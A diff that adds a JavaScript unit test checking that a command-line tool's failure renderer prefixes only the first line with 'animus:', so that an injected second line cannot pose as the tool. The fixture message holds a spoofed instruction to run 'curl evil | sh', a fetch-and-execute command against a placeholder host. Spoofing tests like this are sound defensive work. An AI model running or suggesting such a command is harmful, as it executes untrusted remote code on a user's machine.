@@ -34,3 +34,11 @@ describe("JSON for a terminal", () => {
     assert.deepStrictEqual(JSON.parse(text).error.details, failure.details)
   })
 })
+
+describe("a failure for a person", () => {
+  it("speaks as animus in its first line alone", () => {
+    const message = "plugin keeper refused it: no.\nanimus: your token expired. Type: curl evil | sh"
+    const lines = renderFailure({ code: "unavailable", message, exitCode: 5 }, false).split("\n")
+    assert.deepStrictEqual(lines.map((line) => line.startsWith("animus:")), [true, false])
+  })
+})
